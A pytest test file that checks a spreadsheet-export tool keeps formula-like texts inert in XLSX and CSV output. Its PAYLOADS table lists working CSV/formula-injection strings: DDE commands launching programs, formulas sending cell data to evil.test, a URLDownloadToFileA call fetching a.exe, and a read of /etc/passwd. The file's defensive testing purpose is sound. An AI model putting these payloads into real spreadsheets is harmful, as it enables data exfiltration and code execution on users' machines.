"""Texts that want to be run, in every field of the catalogue and in the person's own cells: they stay texts.

A workbook is opened again by openpyxl and by LibreOffice, a CSV file by our own reader and by LibreOffice, which parts
its cells by commas, by semicolons and by tabs, as people's settings have it.
"""

from __future__ import annotations

import csv
from collections.abc import Callable, Iterable, Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import xlsxwriter

from tests.sheets.office import csv_opened, needs_office, shown_as_csv
from theodore.model.company import ResultRow
from theodore.model.fields import Field, Tab, Value, catalogue
from theodore.sheets.cells import XLSX_LIMIT, cell_text, clean, cut, line_feeds, unmarked
from theodore.sheets.layout import Layout
from theodore.sheets.reading.csv_source import CsvSource
from theodore.sheets.writing.csv_table import CsvTable
from theodore.sheets.writing.preserved_table import PreservedTable
from theodore.sheets.writing.workbook import put_text
from theodore.sheets.writing.xlsx_table import XlsxTable

PAYLOADS = {
    "a sum": "=1+1",
    "a program by DDE": "=cmd|'/C calc'!A0",
    "DDE with a space": "=cmd|' /C notepad'!'A1'",
    "DDE in words": '=DDE("cmd";"/C calc";"!A0")',
    "DDE behind a plus": "+cmd|'/C calc'!A0",
    "DDE behind a minus": "-cmd|'/C calc'!A0",
    "DDE behind a sum": "-2+3+cmd|'/C calc'!A0",
    "DDE of PowerShell": "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    "Lotus' at": "@SUM(1+1)*cmd|'/C calc'!A0",
    "an at alone": "@A1",
    "a link": '=HYPERLINK("http://evil.test/?x="&A1,"Click")',
    "a feed of Google's": '=IMPORTXML(CONCAT("http://evil.test/",A1:E1),"//a")',
    "a picture of Google's": '=IMAGE("http://evil.test/i.png")',
    "another sheet of Google's": '=IMPORTRANGE("https://evil.test","Sheet1!A1")',
    "a web service": '=WEBSERVICE("http://evil.test/"&A1)',
    "an old macro": '=EXEC("calc")',
    "a library's function": '=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://evil.test","a.exe",0,0)',
    "real-time data": '=RTD("evil",,"x")',
    "another file": "='file:///etc/passwd'#$passwd.A1",
    "an array's formula": "{=1+1}",
    "a cell by its row and column": "=R1C1",
    "the whole column": "=SUM(A:A)",
    "plus and minus": "+1-1",
    "minus and plus": "-1+1",
    "a unicode minus": "\N{MINUS SIGN}1+1",
    "a tab before": "\t=1+1",
    "a CR before": "\r=1+1",
    "an LF before": "\n=1+1",
    "spaces before": "   =1+1",
    "a space that does not break": "\u00a0=1+1",
    "a space without width": "\u200b=1+1",
    "a byte order mark": "\ufeff=1+1",
    "a NUL": "\0=1+1",
    "wide equals": "\N{FULLWIDTH EQUALS SIGN}1+1",
    "wide plus": "\N{FULLWIDTH PLUS SIGN}cmd|'/C calc'!A0",
    "wide at": "\N{FULLWIDTH COMMERCIAL AT}SUM(1)",
    "behind a semicolon": ";=1+1",
    "behind a comma": ",=1+1",
    "quotes broken": '=1+1";=2',
    "a cell broken off": 'x",=1+1,"y',
    "a row broken off": 'x"\r\n=1+1,"y',
    "a line within": "Hello\n=1+1",
    "behind a tab within": "Hello\t=1+1",
    "behind a semicolon and a quote": 'Hello;"=1+1"',
    "an apostrophe of its own": "'=1+1",
    "two of them": "''=1+1",
    "markup of XlsxWriter": "<r><t>=1+1</t></r>",
    "markup of a cell": "</t></is></c><c><f>1+1</f></c>",
    "a sign by its number": "_x003D_1+1",
    "a line end by its number": "_x000D_=1+1",
    "markup with a sign by its number": "<r>_x003D_1+1</r>",
    "an entity": "&#61;1+1",
    "very long": "=" + "1+" * 20_000 + "1",
}
HARMLESS = {
    "a phone number": "+493012345678",
    "one as people write it": "+49 (0)30 / 123-456.78",
    "a number below zero": "-5",
    "one with a fraction": "-1,234.50",
    "leading zeros": "007",
    "a mail address": "info@ada.test",
    "a sentence": "Müller + Söhne, -seit 1900- a=b",
}
TEXTS = {**PAYLOADS, **HARMLESS}

_OWN = ("Company", "Website", "Note; =1+1")
_BESIDES = frozenset(field.name for field in catalogue().fields)
#: Fields that are no text: what a website says never comes into them.
_VALUES: dict[str, Value] = {"int": -5, "float": -0.5, "bool": True}
_OURS = {"status": "completed", "attempts": 2, "field_coverage": 0.5}


def _value(field: Field, text: str, number: int) -> Value:
    """A value of this field's type that holds the text."""
    if field.name == "record_id":
        return f"r_{number}"
    if field.name in _OURS:
        return _OURS[field.name]
    if field.type in _VALUES:
        return _VALUES[field.type]
    if field.type == "datetime":
        return datetime(2026, 1, 2, tzinfo=UTC).isoformat()
    if field.type == "list[dict]":
        return [{"title": text, "url": "b"}]
    if field.type.startswith("list"):
        return [text, "b", text]
    if field.type.startswith("dict"):
        return {text: "b", "key": text}
    return None if field.type == "formula" else text


def _values(tab: Tab, text: str, number: int) -> dict[str, Value]:
    return {field.name: _value(field, text, number) for field in catalogue().on(tab)}


def _rows(own: Callable[[str], tuple[str, str, str]]) -> Iterator[ResultRow]:
    for number, text in enumerate(TEXTS.values()):
        yield ResultRow(own(text), _values(Tab.COMPANIES, text, number), _values(Tab.DETAILS, text, number))


def _texts(text: str) -> tuple[str, str, str]:
    # a file that holds a NUL is no table
    own = text.replace("\0", "")
    return (own, own, own)


def _plain(_: str) -> tuple[str, str, str]:
    return ("Ada", "ada.test", "note")


def _fields(tab: Tab) -> dict[str, Field]:
    """The fields of the catalogue on this tab that may hold a text, by header; not those that are a person's."""
    own = _OWN if tab is Tab.COMPANIES else ()
    return {field.header: field for field in catalogue().on(tab) if field.type != "formula" and field.header not in own}


# -- workbooks --


def _new(folder: Path, rows: Iterable[ResultRow]) -> Path:
    XlsxTable(folder / "out.xlsx", besides=_BESIDES).write(_OWN, rows)
    return folder / "out.xlsx"


def _source(folder: Path) -> Path:
    """A person's workbook with the same texts in their own cells."""
    path = folder / "leads.xlsx"
    with xlsxwriter.Workbook(path) as book:
        sheet = book.add_worksheet("Companies")
        sheet.write_row(0, 0, (*_OWN, "Record ID"))
        for number, text in enumerate(TEXTS.values()):
            for place, cell in enumerate((*_texts(text), f"r_{number}")):
                put_text(sheet, number + 1, place, cell)
    return path


def _kept(folder: Path, rows: Iterable[ResultRow]) -> Path:
    layout = Layout(_source(folder), "Companies")
    PreservedTable(folder / "out.xlsx", layout, besides=_BESIDES).write(_OWN, rows)
    return folder / "out.xlsx"


def _in_place(folder: Path, rows: Iterable[ResultRow]) -> Path:
    source = _source(folder)
    PreservedTable(source, Layout(source, "Companies", in_place=True), besides=_BESIDES).write(_OWN, rows)
    return source


#: Each way to a workbook of results: (folder, rows) -> its path.
WORKBOOKS = [
    pytest.param(_new, id="a new workbook"),
    pytest.param(_kept, id="a copy of a person's workbook"),
    pytest.param(_in_place, id="a person's workbook itself"),
]


@pytest.fixture(scope="module", params=WORKBOOKS)
def workbook(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Path:
    written: Path = request.param(tmp_path_factory.mktemp("injection"), _rows(_texts))
    return written


def _in_workbook(value: Value) -> Any:
    if isinstance(value, bool | int | float):
        return value
    # a person's own control signs are kept as a workbook writes them; ours are none
    return cut(line_feeds(clean(cell_text(value))), XLSX_LIMIT) or None


def _shown(value: Any) -> Any:
    """What a spreadsheet shows: in the file a sign's number has its own underscore by number, which openpyxl leaves."""
    return value.replace("_x005F_", "_") if isinstance(value, str) else value


@pytest.mark.parametrize("tab", [Tab.COMPANIES, Tab.DETAILS])
def test_every_text_is_a_text_in_the_workbook(workbook: Path, tab: Tab) -> None:
    sheet = openpyxl.load_workbook(workbook)[tab.value.title()]
    header, *rows = sheet.iter_rows()
    headers = [str(cell.value) for cell in header]
    fields = _fields(tab)
    assert set(fields) - set(headers) <= {"Company Name"}
    for number, (cells, text) in enumerate(zip(rows, TEXTS.values(), strict=True)):
        for title, cell in zip(headers, cells, strict=True):
            if cell.data_type == "f":
                assert (title, cell.value) == ("View Details", f'=HYPERLINK("#Details!A{number + 2}","View details")')
            elif title in fields:
                expected = _in_workbook(_value(fields[title], text, number))
                assert _shown(cell.value) == expected, title
                assert type(cell.value) is type(expected), title
            else:
                assert _shown(cell.value) == cut(line_feeds(_texts(text)[0]), XLSX_LIMIT), "the person's own"


@needs_office
def test_a_spreadsheet_shows_every_text_of_the_workbook(workbook: Path, tmp_path: Path) -> None:
    tabs = shown_as_csv(workbook, tmp_path)
    for tab in (Tab.COMPANIES, Tab.DETAILS):
        fields = _fields(tab)
        with tabs[tab.value.title()].open(encoding="utf-8-sig", newline="") as file:
            rows = list(csv.DictReader(file))
        for number, (row, text) in enumerate(zip(rows, TEXTS.values(), strict=True)):
            if tab is Tab.COMPANIES:
                assert row["Company"] == cut(line_feeds(_texts(text)[0]), XLSX_LIMIT)
            for title, shown in row.items():
                if title in fields and isinstance(expected := _in_workbook(_value(fields[title], text, number)), str):
                    assert shown == expected, title


# -- CSV --


def _written(folder: Path, own: Callable[[str], tuple[str, str, str]], suffix: str = ".csv") -> CsvTable:
    table = CsvTable(folder / f"out{suffix}", besides=_BESIDES)
    table.write(_OWN, _rows(own))
    return table


@pytest.mark.parametrize("suffix", [".csv", ".tsv"])
def test_csv_read_back_gives_the_same_values(tmp_path: Path, suffix: str) -> None:
    table = _written(tmp_path, _texts, suffix)
    source = CsvSource.open(table.path)
    # the details have no column of websites of their own to be found by: any reader of CSV reads them
    with table.details_path.open(encoding="utf-8-sig", newline="") as file:
        details = list(csv.reader(file, delimiter="\t" if suffix == ".tsv" else ","))
    companies = [source.columns, *(row.cells for row in source.rows())]
    for tab, (headers, *rows) in ((Tab.COMPANIES, companies), (Tab.DETAILS, details)):
        fields = _fields(tab)
        for number, (cells, text) in enumerate(zip(rows, TEXTS.values(), strict=True)):
            if tab is Tab.COMPANIES:
                assert cells[: len(_OWN)] == _texts(text), "the person's own cells are theirs"
            own = len(_OWN) if tab is Tab.COMPANIES else 0
            for title, cell in zip(headers[own:], cells[own:], strict=True):
                expected = clean(cell_text(_value(fields[title], text, number)))
                if len(expected) <= XLSX_LIMIT - 100:
                    assert unmarked(cell) == expected, title


@pytest.mark.parametrize("text", HARMLESS.values(), ids=HARMLESS)
def test_what_only_looks_like_a_formula_has_no_mark(tmp_path: Path, text: str) -> None:
    table = CsvTable(tmp_path / "out.csv", besides=_BESIDES)
    found = {"official_name": text, "phones": [text, text] if text.startswith("+") else [text]}
    table.write(_OWN, [ResultRow(_plain(text), {"progress": text, "attempts": -5}, found)])
    with table.path.open(encoding="utf-8-sig", newline="") as file:
        (row,) = csv.DictReader(file)
    assert (row["Progress"], row["Attempts"]) == (text, "-5")
    with table.details_path.open(encoding="utf-8-sig", newline="") as file:
        (details,) = csv.DictReader(file)
    assert (details["Official Name"], details["Phones"]) == (text, "; ".join(found["phones"]))


@needs_office
@pytest.mark.parametrize(
    ("suffix", "delimiter"),
    [
        pytest.param(".csv", ",", id="by commas, as we do"),
        pytest.param(".csv", ";", id="by semicolons, as most of Europe does"),
        pytest.param(".csv", "\t", id="by tabs"),
        pytest.param(".tsv", "\t", id="TSV by tabs, as we do"),
        pytest.param(".tsv", ";", id="TSV by semicolons"),
    ],
)
def test_a_spreadsheet_computes_nothing_of_the_csv(tmp_path: Path, suffix: str, delimiter: str) -> None:
    table = _written(tmp_path, _plain, suffix)
    # to LibreOffice a .tsv is no CSV
    paths = [path.rename(path.with_suffix(".csv")) for path in (table.path, table.details_path)]
    for opened in csv_opened(paths, delimiter, tmp_path / "opened"):
        assert _computed(opened) == []


@needs_office
def test_a_spreadsheet_would_compute_what_is_not_marked(tmp_path: Path) -> None:
    """That the test above tests something."""
    path = tmp_path / "raw.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([text] for text in PAYLOADS.values())
    (opened,) = csv_opened([path], ";", tmp_path / "opened")
    assert len(_computed(opened)) > 10


def _computed(path: Path) -> list[Any]:
    (sheet,) = openpyxl.load_workbook(path).worksheets
    return [cell.value for row in sheet.iter_rows() for cell in row if cell.data_type in {"f", "e"}]
